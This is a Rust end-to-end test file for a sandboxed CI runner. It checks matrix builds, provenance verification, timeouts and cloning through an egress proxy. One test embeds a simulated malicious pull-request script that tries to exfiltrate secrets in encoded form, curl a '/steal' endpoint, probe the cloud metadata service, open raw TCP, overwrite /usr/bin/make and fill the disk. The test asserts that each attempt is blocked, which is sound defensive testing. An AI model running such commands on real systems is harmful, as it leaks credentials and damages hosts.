//! `kiln ci run` end to end: real VMs (template `base`), real git repositories, a real egress
//! proxy, real signatures.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use kiln_testkit::TestHome;

fn kiln(th: &TestHome, args: &[&str], env: &[(&str, &str)]) -> Output {
    kiln_testkit::kiln!(th).args(args).envs(env.iter().copied()).output().expect("run kiln")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// A git repository with these files, committed.
fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    for (p, c) in files {
        let path = t.path().join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, c).unwrap();
    }
    let sh = |cmd: &str| assert!(Command::new("sh").arg("-c").arg(cmd).current_dir(t.path()).status().unwrap().success(), "{cmd}");
    sh("git init -q && git config user.email ci@example.com && git config user.name ci && git add -A && git commit -qm init");
    t
}

/// A TCP server on `addr` that counts connections and answers one HTTP response each.
fn http_server(addr: &str) -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind(format!("{addr}:0")).unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for s in l.incoming().flatten() {
            h.fetch_add(1, Ordering::SeqCst);
            let mut s = s;
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 14\r\nConnection: close\r\n\r\nhello-from-ok\n");
        }
    });
    (port, hits)
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            v.extend(files_under(&p));
        } else {
            v.push(p);
        }
    }
    v
}

#[test]
#[ignore = "needs QEMU and built templates: run `make test`, or `cargo test -- --include-ignored` after `make build` and `kiln template build tiny` (and `base`)"]
fn matrix_artifacts_and_provenance_verify() {
    let th = TestHome::for_daemon();
    let out = tempfile::tempdir().unwrap();
    let o = kiln(
        &th,
        &["ci", "run", "--repo", concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/hello-c"), "--ref", "HEAD",
          "--build", "make test && mkdir -p dist && cp hello dist/hello-$V && echo $V >> dist/hello-$V",
          "--matrix", "V=1,2", "--artifact", "dist/*", "--out", out.path().to_str().unwrap(), "--json"],
        &[],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).expect("report json");
    let cells = report["cells"].as_array().unwrap();
    assert_eq!(cells.len(), 2);
    for (cell, v) in cells.iter().zip(["1", "2"]) {
        assert_eq!(cell["exit_code"], 0);
        let artifact = out.path().join(format!("V={v}/artifacts/dist/hello-{v}"));
        assert!(artifact.exists());
        let prov = cell["provenance"].as_str().unwrap();
        let ok = kiln(&th, &["verify", "--provenance", prov, "--artifact", artifact.to_str().unwrap()], &[]);
        assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
        // One flipped byte in the artifact: refused.
        let mut bytes = std::fs::read(&artifact).unwrap();
        bytes[64] ^= 0xff;
        let flipped = out.path().join("flipped");
        std::fs::write(&flipped, &bytes).unwrap();
        let bad = kiln(&th, &["verify", "--provenance", prov, "--artifact", flipped.to_str().unwrap()], &[]);
        assert_eq!(bad.status.code(), Some(1), "{}", text(&bad.stdout));
    }
    // The commit built is recorded, and the statement says what was built from what.
    assert_eq!(report["commit"].as_str().unwrap().len(), 40);
    th.assert_clean();
}

#[test]
#[ignore = "needs QEMU and built templates: run `make test`, or `cargo test -- --include-ignored` after `make build` and `kiln template build tiny` (and `base`)"]
fn failing_cell_fails_the_run_and_timeouts_are_124() {
    let th = TestHome::for_daemon();
    let r = repo(&[("build.sh", "test \"$X\" = good")]);
    let out = tempfile::tempdir().unwrap();
    let o = kiln(&th, &["ci", "run", "--repo", r.path().to_str().unwrap(), "--build", "sh build.sh", "--matrix", "X=good,bad", "--out", out.path().to_str().unwrap()], &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    // Each run gets an out folder of its own (kiln refuses one that is not empty).
    let out2 = out.path().join("second");
    let o = kiln(&th, &["ci", "run", "--repo", r.path().to_str().unwrap(), "--build", "sleep 100 & while :; do :; done", "--timeout", "3", "--out", out2.to_str().unwrap()], &[]);
    assert_eq!(o.status.code(), Some(124), "{}", text(&o.stderr));
    for bad in [&["ci", "run", "--repo", "/no/such/repo", "--build", "true"][..], &["ci", "run", "--repo", ".", "--build", "true", "--matrix", "X"][..], &["ci", "run", "--repo", ".", "--build", "true", "--artifact", "../etc/passwd"][..], &["ci", "run", "--repo", ".", "--build", "true", "--secret", "NOT_SET_ANYWHERE_123"][..]] {
        let o = kiln(&th, bad, &[]);
        assert_eq!(o.status.code(), Some(2), "{bad:?}: {}", text(&o.stderr));
        assert!(text(&o.stderr).starts_with("kiln: "), "{}", text(&o.stderr));
    }
    th.assert_clean();
}

/// The malicious pull request: everything it tries fails or is masked, the report shows the
/// denied egress, and the next job starts clean.
#[test]
#[ignore = "needs QEMU and built templates: run `make test`, or `cargo test -- --include-ignored` after `make build` and `kiln template build tiny` (and `base`)"]
fn malicious_pull_request() {
    let th = TestHome::for_daemon();
    let (ok_port, ok_hits) = http_server("127.0.0.2");
    let (denied_port, denied_hits) = http_server("127.0.0.3");
    let (loop_port, loop_hits) = http_server("127.0.0.1");
    let token = "tok-9f8e7d6c5b4a";
    let build = format!(
        r#"set +e
echo "host env: $KILN_TEST_HOST_MARKER"
cat /proc/1/environ 2>/dev/null | tr '\0' '\n' | grep -c KILN_TEST_HOST_MARKER
echo "unpassed secret: [$OTHER_SECRET]"
echo "token: $DEPLOY_TOKEN"
printf %s "$DEPLOY_TOKEN" | base64
printf '{{"t":"%s"}}\n' "$DEPLOY_TOKEN"
printf %s "$LONG_SECRET" | base64
printf %s "x$LONG_SECRET" | base64 -w 64
printf %s "$LONG_SECRET" | od -An -tx1 | tr -d ' \n'; echo
echo evil > /work/deps.txt
curl -sS -m 10 http://127.0.0.2:{ok_port}/ok
curl -sS -m 10 http://127.0.0.3:{denied_port}/steal
curl -sS -m 5 --noproxy '*' http://127.0.0.1:{loop_port}/loopback; echo "loopback rc=$?"
curl -sS -f -m 5 --noproxy '' http://localhost:{loop_port}/byname 2>&1; echo "byname rc=$?"
curl -sS -f -m 5 --noproxy '' http://127.0.0.1:{loop_port}/viaproxy 2>&1; echo "viaproxy rc=$?"
curl -sS -f -m 5 http://169.254.169.254/latest/meta-data/ 2>&1; echo "metadata rc=$?"
curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/ 2>&1; echo "metadata direct rc=$?"
(echo x > /dev/tcp/10.0.2.2/80) 2>/dev/null; echo "raw tcp rc=$?"
nohup sleep 1000 >/dev/null 2>&1 &
echo 'echo pwned' > /usr/bin/make
dd if=/dev/zero of=/work/fill bs=1M count=3000 2>/dev/null; echo "fill rc=$?"
ls /dev | grep -c -E '^(eth|vd[b-z]|sd)' ; ip link 2>/dev/null | grep -c ether
exit 0
"#
    );
    let pr = repo(&[("build.sh", &build), ("deps.lock", "v1\n")]);
    let key = pr.path().join("deps.lock");
    let out = tempfile::tempdir().unwrap();
    // Long enough (57 bytes and more) that `base64` wraps inside its encoding.
    let long = "long-secret-0123456789-abcdefghijklmnopqrstuvwxyz-ABCDEFGHIJKLMNOPQRSTUVWXYZ-end";
    let env = [("DEPLOY_TOKEN", token), ("LONG_SECRET", long), ("OTHER_SECRET", "other-5ecret-value"), ("KILN_TEST_HOST_MARKER", "host-only-marker-42")];
    let base = |o: &Path| -> Vec<String> {
        vec![
            "ci".into(), "run".into(), "--repo".into(), pr.path().display().to_string(),
            "--setup".into(), "echo v1 > /work/deps.txt".into(), "--cache-key".into(), key.display().to_string(),
            "--allow".into(), format!("127.0.0.2:{ok_port}"), "--allow".into(), format!("localhost:{loop_port}"),
            "--timeout".into(), "300".into(),
            "--out".into(), o.display().to_string(), "--json".into(),
        ]
    };
    // A trusted run writes the setup cache.
    let mut args = base(out.path());
    args.extend(["--build".into(), "cat /work/deps.txt".into(), "--trusted".into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = kiln(&th, &args, &env);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["cache"]["written"], true, "{r}");
    // The entry's RAM file is frozen: root's and read-only, so no VMM restoring it can write it.
    let entries: Vec<_> = std::fs::read_dir(th.home.root().join("ci-cache")).unwrap().flatten().map(|e| e.path().join("memory")).filter(|m| m.exists()).collect();
    assert!(!entries.is_empty(), "no cache entry with a RAM file");
    for m in entries {
        let meta = std::fs::symlink_metadata(&m).unwrap();
        use std::os::unix::fs::MetadataExt;
        assert_eq!((meta.uid(), meta.mode() & 0o222), (0, 0), "{} is {:o} uid {}", m.display(), meta.mode() & 0o7777, meta.uid());
    }

    // The malicious build, untrusted, with one secret.
    let mal_out = tempfile::tempdir().unwrap();
    let mut args = base(mal_out.path());
    args.extend(["--build".into(), "bash build.sh".into(), "--secret".into(), "DEPLOY_TOKEN".into(), "--secret".into(), "LONG_SECRET".into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = kiln(&th, &args, &env);
    let stderr = text(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{stderr}");
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["cache"]["hit"], true, "{r}");
    let log = std::fs::read_to_string(mal_out.path().join("build/build.log")).unwrap();
    assert!(log.contains("host env: \n"), "{log}");
    assert!(log.contains("unpassed secret: []"), "{log}");
    assert!(log.contains("token: ***"), "{log}");
    assert!(log.contains("hello-from-ok"), "{log}");
    assert!(log.contains("is not allowed"), "{log}");
    assert!(log.contains("raw tcp rc=1"), "{log}");
    assert!(!log.contains("loopback rc=0"), "{log}");
    // A name that is allowed but resolves to the host's loopback, the loopback through the
    // proxy, and the metadata service: all refused.
    for attempt in ["byname", "viaproxy", "metadata", "metadata direct"] {
        assert!(log.contains(&format!("{attempt} rc=")) && !log.contains(&format!("{attempt} rc=0")), "{attempt}: {log}");
    }
    // Nothing of the secret, nor of what the build was not given, anywhere kiln wrote.
    let encoded = {
        use std::io::Write;
        let mut c = Command::new("base64").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
        c.stdin.take().unwrap().write_all(token.as_bytes()).unwrap();
        text(&c.wait_with_output().unwrap().stdout).trim().trim_end_matches('=').to_owned()
    };
    let mut everything = stderr.clone() + &text(&o.stdout);
    for f in files_under(mal_out.path()) {
        everything.push_str(&String::from_utf8_lossy(&std::fs::read(f).unwrap()));
    }
    // Every line of the long secret's wrapped base64 and its hex: gone.
    let long_b64 = {
        use std::io::Write;
        let mut c = Command::new("base64").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
        c.stdin.take().unwrap().write_all(long.as_bytes()).unwrap();
        text(&c.wait_with_output().unwrap().stdout)
    };
    let long_hex: String = long.bytes().map(|b| format!("{b:02x}")).collect();
    let mut leaks: Vec<String> = long_b64.lines().filter(|l| l.len() >= 16).map(|l| l[..l.len().min(40)].to_owned()).collect();
    leaks.push(long_hex[..40].to_owned());
    assert!(log.matches("***").count() >= 6, "{log}");
    for leak in leaks.iter().map(String::as_str).chain([token, &encoded[..encoded.len() - 2], "other-5ecret-value", "host-only-marker-42"]) {
        assert!(!everything.contains(leak), "leaked {leak:?}");
    }
    // Egress: the allowed server was reached once, the denied one and the host's loopback never.
    assert_eq!(ok_hits.load(Ordering::SeqCst), 1);
    assert_eq!(denied_hits.load(Ordering::SeqCst), 0);
    assert_eq!(loop_hits.load(Ordering::SeqCst), 0);
    let attempts = r["egress"]["attempts"].as_array().unwrap();
    assert!(attempts.iter().any(|a| a["allowed"] == false && a["port"] == denied_port), "{attempts:?}");
    let denied_because = |host: &str, why: &str| {
        attempts.iter().any(|a| a["host"] == host && a["allowed"] == false && a["reason"].as_str().is_some_and(|r| r.contains(why)))
    };
    assert!(denied_because("localhost", "loopback"), "{attempts:?}");
    assert!(denied_because("127.0.0.1", "not in the allowlist"), "{attempts:?}");
    assert!(denied_because("169.254.169.254", "no sandbox may reach"), "{attempts:?}");

    // The next job starts clean: the cache is unpoisoned, no process or binary survived.
    let next_out = tempfile::tempdir().unwrap();
    let mut args = base(next_out.path());
    args.extend(["--build".into(), "cat /work/deps.txt; make --version | head -1; ps -eo args | grep -c '^sleep 1000' ; ls /work/fill 2>&1 | head -1".into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = kiln(&th, &args, &env);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let log = std::fs::read_to_string(next_out.path().join("build/build.log")).unwrap();
    let lines: Vec<&str> = log.lines().collect();
    assert_eq!(lines[0], "v1", "{log}");
    assert!(lines[1].starts_with("GNU Make"), "{log}");
    assert_eq!(lines[2], "0", "{log}");
    assert!(lines[3].contains("No such file"), "{log}");
    // The cache entry itself is untouched by the untrusted run.
    th.assert_clean();
}

#[test]
#[ignore = "needs QEMU and built templates: run `make test`, or `cargo test -- --include-ignored` after `make build` and `kiln template build tiny` (and `base`)"]
fn clones_a_url_through_the_egress_proxy() {
    let th = TestHome::for_daemon();
    // A repository served over dumb HTTP on a loopback address of the host.
    let src = repo(&[("README", "served over http\n")]);
    let www = tempfile::tempdir().unwrap();
    let sh = |cmd: &str| assert!(Command::new("sh").arg("-c").arg(cmd).status().unwrap().success(), "{cmd}");
    sh(&format!("git clone -q --bare {} {}/r.git && git -C {}/r.git update-server-info", src.path().display(), www.path().display(), www.path().display()));
    let port = TcpListener::bind("127.0.0.2:0").unwrap().local_addr().unwrap().port();
    let mut server = Command::new("python3")
        .args(["-m", "http.server", &port.to_string(), "--bind", "127.0.0.2", "--directory"])
        .arg(www.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    assert!(kiln_testkit::wait_until(std::time::Duration::from_secs(10), || std::net::TcpStream::connect(("127.0.0.2", port)).is_ok()));
    let out = tempfile::tempdir().unwrap();
    let url = format!("http://127.0.0.2:{port}/r.git");
    // The clone host is allowed for the clone only: the build cannot reach it.
    let o = kiln(&th, &["ci", "run", "--repo", &url, "--ref", "HEAD", "--build", &format!("cat README; curl -s -o /dev/null -w '%{{http_code}}\\n' {url}/HEAD"), "--out", out.path().to_str().unwrap(), "--json"], &[]);
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let log = std::fs::read_to_string(out.path().join("build/build.log")).unwrap();
    assert_eq!(log, "served over http\n403\n");
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["commit"].as_str().unwrap().len(), 40);
    th.assert_clean();
}
